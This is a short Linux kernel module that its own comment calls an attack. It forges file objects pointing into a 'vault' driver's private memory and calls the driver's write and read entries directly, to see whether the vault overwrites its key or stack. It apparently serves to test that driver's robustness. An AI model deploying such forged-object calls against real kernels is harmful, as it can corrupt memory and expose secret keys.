// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0
/*
 * An attack: kernel code that calls the vault's write and read entries with a file of its own making, whose data, or itself, lies in the vault's private memory.
 * A vault that believed it would write the message's length and the signature over its own key or stack. Parameters:
 *
 *	write, read	addresses of the entries
 *	target		where the vault's private memory is
 *	results		reading it makes the calls: what they gave
 */
#include <linux/fs.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/slab.h>

static unsigned long write, read, target;
module_param(write, ulong, 0644);
module_param(read, ulong, 0644);
module_param(target, ulong, 0644);

static int results_get(char *buffer, const struct kernel_param *parameter)
{
	ssize_t (*vault_write)(struct file *, const char __user *, size_t, loff_t *) = (void *)write;
	ssize_t (*vault_read)(struct file *, char __user *, size_t, loff_t *) = (void *)read;
	struct file *file = kzalloc(sizeof(*file), GFP_KERNEL);
	int length = 0, turn;

	for (turn = 0; file && turn < 3; turn++) {
		struct file *named = turn == 2 ? (struct file *)target : file;

		/* At it, and from right below into it. */
		file->private_data = (void *)(target - (turn == 1 ? 64 : 0));
		length += scnprintf(buffer + length, PAGE_SIZE - length, "%ld %ld ", (long)vault_write(named, NULL, 0, NULL), (long)vault_read(named, NULL, 32, NULL));
	}
	kfree(file);
	return length + scnprintf(buffer + length, PAGE_SIZE - length, "\n");
}

static const struct kernel_param_ops results_ops = { .get = results_get };
module_param_cb(results, &results_ops, NULL, 0444);

MODULE_DESCRIPTION("Calls the vault with forged files");
MODULE_LICENSE("GPL");
